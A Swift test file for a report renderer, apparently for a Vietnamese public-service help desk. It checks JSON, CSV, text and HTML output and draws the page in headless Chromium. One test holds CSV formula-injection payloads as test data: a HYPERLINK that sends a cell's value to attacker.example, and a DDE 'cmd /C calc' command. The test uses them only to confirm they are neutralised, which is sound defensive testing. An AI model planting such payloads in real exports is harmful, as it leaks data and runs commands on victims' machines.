import Foundation
import Testing

@testable import Dialogue
@testable import ReportFormats
@testable import Wire

/// The report's formats, and its HTML page as a browser draws it.
@Suite struct ReportRenderingTests {
    static let report = Report(
        since: Date(timeIntervalSince1970: 1_761_955_200), until: Date(timeIntervalSince1970: 1_763_164_800), unit: nil,
        questions: 120, previousQuestions: 80,
        topics: [.init(topic: "an-toan", name: "An toàn thông tin", count: 70, previous: 40),
                 .init(topic: "nen-tang", name: "Nền tảng, hạ tầng kỹ thuật", count: 50, previous: 40)],
        weekly: [.init(period: "2026-W44", topic: nil, count: 50), .init(period: "2026-W45", topic: nil, count: 70)],
        monthly: [.init(period: "2026-11", topic: nil, count: 120)], weeklyByTopic: [], monthlyByTopic: [],
        botAnswered: 90, helpful: 30, notHelpful: 10, tickets: 30,
        satisfactionByTopic: [.init(key: "an-toan", count: 10, mean: 4.2, shareAtLeast4: 0.8)],
        satisfactionByUnit: [.init(key: "ATTT", count: 10, mean: 4.2, shareAtLeast4: 0.8)],
        times: [.init(unit: "ATTT", tickets: 20, firstResponseMedian: 5, firstResponseP90: 30, resolutionMedian: 20,
                      resolutionP90: 70, pastDue: 2)],
        backlog: [.init(unit: "ATTT", underOneDay: 1, oneToThreeDays: 2, threeToSevenDays: 0, overSevenDays: 1)],
        frequentEscalations: [.init(question: "Chi phí đánh giá an toàn cấp độ 3 <tính> thế nào?", count: 6, tickets: [1, 2])],
        provinces: [
            .init(province: "nghe-an", name: "Nghệ An", questions: 12, tickets: 3, openTickets: 1, pastDue: 0,
                  waitMedianHours: 5.5, waitMaxHours: 30, topics: [.init(topic: "an-toan", name: "An toàn thông tin", count: 4),
                                                                  .init(topic: "nen-tang", name: "Nền tảng, hạ tầng kỹ thuật", count: 3)]),
            .init(province: "ho-chi-minh", name: "Thành phố Hồ Chí Minh", questions: 5, tickets: 0, openTickets: 0, pastDue: 0,
                  waitMedianHours: nil, waitMaxHours: nil, topics: [.init(topic: "du-lieu", name: "Dữ liệu <mở>", count: 5)]),
        ],
        unplacedQuestions: 7, unplacedTickets: 2)

    /// JSON carries the figures for programs; CSV and text carry the same.
    @Test func formatsCarryTheFigures() throws {
        let json = try JSONValue.parse(ReportFormat.json.render(Self.report))
        #expect(json["questions"] == 120 && json["autoResolution"] == 0.75 && json["helpfulShare"] == 0.75)
        #expect(json["rising"]?.array == ["an-toan", "nen-tang"])
        #expect(json["times"]?.array?.first?["pastDue"] == 2)
        let csv = ReportFormat.csv.render(Self.report)
        #expect(csv.contains("summary,botAnswered,90,,0.750"))
        let text = ReportFormat.text.render(Self.report)
        #expect(text.contains("Bot tự trả lời: 90 (75,0%)"))
        let html = ReportFormat.html.render(Self.report)
        #expect(html.contains("<svg") && html.contains("&lt;tính&gt;"))
        #expect(!html.contains("<script") && !html.contains("src=\"http"))
    }

    /// The figures by province in every format; the JSON keys are what the dashboard reads.
    @Test func provincesInEveryFormat() throws {
        let json = try JSONValue.parse(ReportFormat.json.render(Self.report))
        let provinces = try #require(json["provinces"]?.array)
        #expect(provinces.count == 2)
        guard case .object(let nghean) = provinces[0] else { Issue.record("not an object"); return }
        #expect(Set(nghean.keys) == ["province", "name", "questions", "tickets", "openTickets", "pastDue", "waitMedianHours",
                                     "waitMaxHours", "topics"])
        #expect(nghean["province"] == "nghe-an" && nghean["name"] == "Nghệ An" && nghean["questions"] == 12)
        #expect(nghean["tickets"] == 3 && nghean["openTickets"] == 1 && nghean["pastDue"] == 0)
        #expect(nghean["waitMedianHours"] == 5.5 && nghean["waitMaxHours"]?.int == 30)
        #expect(nghean["topics"]?.array?.first == ["topic": "an-toan", "name": "An toàn thông tin", "count": 4])
        #expect(provinces[1]["waitMedianHours"] == .null && provinces[1]["waitMaxHours"] == .null)
        #expect(json["unplacedQuestions"] == 7 && json["unplacedTickets"] == 2)

        let text = ReportFormat.text.render(Self.report)
        #expect(text.contains("Theo tỉnh, thành phố (câu hỏi, phiếu, đang chờ, quá hạn, chờ trung vị/lâu nhất giờ; chủ đề hỏi nhiều):\n"
            + "  Nghệ An: 12, 3, 1, 0, 5,5/30,0; An toàn thông tin (4); Nền tảng, hạ tầng kỹ thuật (3)\n"
            + "  Thành phố Hồ Chí Minh: 5, 0, 0, 0, —/—; Dữ liệu <mở> (5)\n"))
        #expect(text.contains("Chưa rõ tỉnh (không ghi cơ quan, hoặc cơ quan trung ương): 7 câu hỏi, 2 phiếu"))

        let csv = ReportFormat.csv.render(Self.report)
        for row in ["province,nghe-an questions,12,,", "province,nghe-an tickets,3,,", "province,nghe-an openTickets,1,,",
                    "province,nghe-an pastDue,0,,", "province,nghe-an waitMedianHours,,,5.500", "province,nghe-an waitMaxHours,,,30.000",
                    "province,nghe-an topic an-toan,4,,", "province,ho-chi-minh waitMedianHours,,,",
                    "province,unplacedQuestions,7,,", "province,unplacedTickets,2,,"] {
            #expect(csv.split(separator: "\n").contains(Substring(row)), "\(row)")
        }

        let html = ReportFormat.html.render(Self.report)
        #expect(html.contains("<h2>Theo tỉnh, thành phố</h2>") && html.contains("aria-label=\"Câu hỏi theo tỉnh, thành phố\""))
        #expect(html.contains("<tr><td>Nghệ An</td><td class=\"n\">12</td><td class=\"n\">3</td><td class=\"n\">1</td>"
            + "<td class=\"n\">0</td><td class=\"n\">5,5 / 30,0</td>"))
        #expect(html.contains("Dữ liệu &lt;mở&gt; (5)") && !html.contains("<mở>"))
        #expect(html.contains("7 câu hỏi, 2 phiếu"))
    }

    /// A CSV cell a spreadsheet would run as a formula is neutralised with a leading `'`; the
    /// report's own negative numbers stay numbers.
    @Test func csvCellsAreNeverFormulas() {
        var report = Self.report
        report.frequentEscalations = [
            .init(question: "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Bấm vào đây\")", count: 3, tickets: [7]),
            .init(question: "+84 cmd|' /C calc'!A0", count: 2, tickets: [8]),
            .init(question: "-2+3", count: 1, tickets: [9]), .init(question: "@SUM(1+1)", count: 1, tickets: [10]),
        ]
        report.topics = [.init(topic: "an-toan", name: "An toàn thông tin", count: 10, previous: 40)]
        let csv = ReportFormat.csv.render(report)
        #expect(csv.contains(#"escalated,"'=HYPERLINK(""http://attacker.example/?""&A1,""Bấm vào đây"")",3"#))
        #expect(csv.contains("escalated,'+84 cmd|' /C calc'!A0,2"))
        #expect(csv.contains("escalated,'-2+3,1") && csv.contains("escalated,'@SUM(1+1),1"))
        #expect(csv.contains("topic,an-toan,10,40,-0.750"))
        for line in csv.split(separator: "\n") {
            for cell in line.split(separator: ",") {
                if let first = cell.first, "=+@".contains(first) { Issue.record("formula cell: \(cell)") }
            }
        }
    }

    /// Headless Chromium draws the page; the picture is far from blank (a blank page drawn the
    /// same way compresses to a fraction of its size).
    @Test func chromiumDrawsTheReport() throws {
        let chromium = try #require(["/usr/bin/chromium", "/usr/bin/chromium-browser"].first {
            FileManager.default.isExecutableFile(atPath: $0)
        }, "headless Chromium is needed (apt-get install chromium)")
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("motcua-report-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: directory) }
        func draw(_ html: String, _ name: String) throws -> Data {
            let page = directory.appendingPathComponent("\(name).html")
            let picture = directory.appendingPathComponent("\(name).png")
            try html.write(to: page, atomically: true, encoding: .utf8)
            let process = Process()
            process.executableURL = URL(fileURLWithPath: chromium)
            process.arguments = ["--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
                                 "--user-data-dir=\(directory.appendingPathComponent("profile-\(name)").path)",
                                 "--window-size=1000,1400", "--screenshot=\(picture.path)", page.absoluteString]
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            process.waitUntilExit()
            return try Data(contentsOf: picture)
        }
        let report = try draw(ReportFormat.html.render(Self.report), "report")
        let blank = try draw("<!DOCTYPE html><html><body></body></html>", "blank")
        #expect(report.prefix(8) == Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]))
        #expect(report.count > 5 * blank.count, "report \(report.count) bytes, blank page \(blank.count) bytes")
    }
}
